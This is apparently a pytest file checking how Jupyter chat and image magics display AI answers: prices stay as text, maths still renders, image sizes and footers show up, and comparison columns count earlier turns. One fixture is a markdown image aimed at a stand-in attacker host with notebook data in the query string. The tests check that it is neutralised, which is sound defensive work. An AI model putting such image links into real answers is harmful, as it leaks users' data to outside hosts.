"""What a user sees from the magics, end to end: a real InteractiveShell and the simulator.

The simulator quotes a prompt's first line in its answer, so a prompt stands in for what
a model might write.  `jupyter_maths` reproduces what JupyterLab typesets.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest
from jupyter_maths import mathjax, typeset

if TYPE_CHECKING:
    from magics_support import Shell

pytest_plugins = ("magics_support",)
PRICES = "A bat and a ball cost $1.10. The bat costs $1.00 more."
QUOTED = "cost $1.10. The bat costs $1.00 more."


def _markdown_it(markdown: str) -> str:
    markdown_it = pytest.importorskip("markdown_it")
    return str(markdown_it.MarkdownIt("commonmark").enable("table").render(markdown))


def _data(output: dict[str, Any]) -> dict[str, Any]:
    return output["data"]  # type: ignore[no-any-return]


def test_a_price_in_a_single_answer_is_text(shell: Shell) -> None:
    shell.ok(f"%%chat -m gpt-5.4-mini\n{PRICES}")
    seen = typeset(_data(shell.final())["text/markdown"], _markdown_it)
    assert seen.maths == [] and QUOTED in seen.text
    assert PRICES in _data(shell.final())["text/plain"]  # the plain text is as written


def test_a_price_in_every_comparison_column_is_text(shell: Shell) -> None:
    shell.ok(f"%%chat -m gpt-5.4-mini,claude-opus-4-6\n{PRICES}")
    seen = mathjax(_data(shell.final())["text/html"])
    assert seen.maths == [] and seen.text.count(QUOTED) == 2


def test_maths_in_a_single_answer_still_renders(shell: Shell) -> None:
    shell.ok("%%chat -m gpt-5.4-mini\nThe area is $\\pi r^2$ for a $5 pizza")
    seen = typeset(_data(shell.final())["text/markdown"], _markdown_it)
    assert seen.maths == ["\\pi r^2"] and "for a $5 pizza" in seen.text


PICTURE = "Look ![chart](https://evil.example/leak.png?d=notebook-data) here"


def test_a_picture_in_a_single_answer_is_a_link(shell: Shell) -> None:
    shell.ok(f"%%chat -m gpt-5.4-mini\n{PICTURE}")
    rendered = _markdown_it(_data(shell.final())["text/markdown"])
    assert "<img" not in rendered
    assert '<a href="https://evil.example/leak.png?d=notebook-data">image: chart</a>' in rendered


def test_a_picture_in_a_comparison_column_is_text(shell: Shell) -> None:
    shell.ok(f"%%chat -m gpt-5.4-mini,claude-opus-4-6\n{PICTURE}")
    html = _data(shell.final())["text/html"]
    assert "<img" not in html and html.count("![chart](https://evil.example/leak.png") == 2


def test_a_single_image_has_a_footer_like_chat(shell: Shell) -> None:
    shell.ok("%%image -m gpt-image-2 --size 1024x1536\nA tall lighthouse")
    picture, footer = shell.outputs
    assert picture["metadata"]["image/png"]["width"] == 341  # 512 px tall, not 1536
    path = picture["metadata"]["tokenhot"]["file"]
    plain = _data(footer)["text/plain"]
    assert plain.startswith("[gpt-image-2 · ") and plain.endswith(f"1024×1536 · saved to {path}]")
    assert " s · " in plain and "est." in plain  # latency and estimated cost
    markdown = _data(footer)["text/markdown"]
    assert markdown.startswith("<sub>gpt-image-2 · ") and "1024×1536" in markdown


def test_compared_images_are_shown_at_a_sensible_size(shell: Shell) -> None:
    shell.ok("%%image -m gpt-image-2,dall-e-3 --size 1024x1024\nA tree")
    html = _data(shell.final())["text/html"]
    assert html.count("<img ") == 2 and html.count("width='512'") == 2
    assert html.count("1024×1024") == 2  # each column header says the size


def test_comparison_columns_say_how_many_earlier_turns_were_sent(shell: Shell) -> None:
    shell.ok("%%chat -m gpt-5.4-mini,claude-opus-4-6\nFirst question")
    first = _data(shell.final())
    assert first["text/html"].count("no earlier turns sent") == 2
    shell.ok("%%chat -m gpt-5.4-mini\nA question with one answer")
    shell.ok("%%chat -m gpt-5.4-mini,claude-opus-4-6\nAnd a follow-up")
    grid = _data(shell.final())
    assert grid["text/html"].count("1 earlier turn sent") == 2
    assert "── claude-opus-4-6 · 1 earlier turn sent · " in grid["text/plain"]
    assert shell.final()["metadata"]["tokenhot"]["turns_sent"] == 1
